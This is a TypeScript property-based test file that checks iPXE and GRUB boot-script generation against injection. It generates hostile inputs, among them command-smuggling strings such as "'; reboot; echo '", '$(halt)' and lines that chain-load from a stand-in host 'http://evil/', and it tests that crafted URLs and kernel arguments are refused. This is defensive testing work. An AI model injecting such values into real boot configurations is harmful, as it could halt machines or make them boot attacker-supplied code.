import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import type { BootPlan } from './boot-plan.ts';
import { grubScript } from './grub-script.ts';
import { ipxeScript } from './ipxe-script.ts';
import { loaderArguments, loaderUrl, shownText } from './loader-text.ts';
import { testPlan, testPlanNames } from './test-plans.ts';

const hostile = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.constantFrom(
    "'; reboot; echo '",
    '"\nchain http://evil/\n',
    '$\u007bnet0/mac}',
    '$(halt)',
    '`x`',
    '&& sanboot http://evil/ ||',
    '\\\nexit',
    '\u2028exit',
    '#!ipxe',
    '}',
  ),
);

/** Lines that a script's author wrote around what a stranger may have chosen. */
function frameOf(script: string): string[] {
  return script.split('\n').map((line) => (/^(echo '?)[A-Za-z0-9 .,:()/_+=-]*'?$/.test(line) ? 'echo' : line));
}

test('no text that a person or a computer has chosen becomes a command of iPXE or GRUB', () => {
  fc.assert(
    fc.property(fc.constantFrom(...testPlanNames), fc.array(hostile, { minLength: 2, maxLength: 4 }), (name, shown) => {
      const plan: BootPlan = { ...testPlan(name), shown };
      const harmless: BootPlan = { ...plan, shown: shown.map(() => 'x') };
      for (const render of [ipxeScript, (plan: BootPlan) => grubScript(plan, { kind: 'http' })]) {
        const script = render(plan);
        assert.match(script, /^[\x20-\x7e\n]*$/);
        assert.deepEqual(frameOf(script), frameOf(render(harmless)));
      }
    }),
    { numRuns: 2000 },
  );
});

test('text for people stays readable', () => {
  assert.equal(
    shownText('"Debian" has ended; clear it to run it again.'),
    'Debian has ended, clear it to run it again.',
  );
  assert.equal(
    shownText('The run of "Deploy Debian → Lab 3 (2nd floor)" waits for its disk.'),
    'The run of Deploy Debian - Lab 3 (2nd floor) waits for its disk.',
  );
  assert.equal(shownText('x'.repeat(5000)).length, 400);
  // iPXE ends a script whose echo gets an option that it does not know.
  assert.equal(shownText('--frobnicate -x'), 'frobnicate -x');
});

for (const url of [
  'https://10.0.0.1:8080/x',
  'http://10.0.0.1:8080/x y',
  "http://10.0.0.1:8080/x'",
  'http://10.0.0.1:8080/x\n',
  'http://10.0.0.1:8080/$\u007bx}',
  'http://evil@10.0.0.1:8080/x',
  'http://10.0.0.1/x',
  '',
]) {
  test(`refuses ${JSON.stringify(url)} as an address in a script`, () => {
    assert.throws(() => loaderUrl(url), RangeError);
  });
}

for (const words of ['a;b', 'a\nb', 'a$b', "a'b", 'a"b', 'a|b', 'a&b', 'ä']) {
  test(`refuses ${JSON.stringify(words)} as kernel arguments`, () => {
    assert.throws(() => loaderArguments(words), RangeError);
  });
}
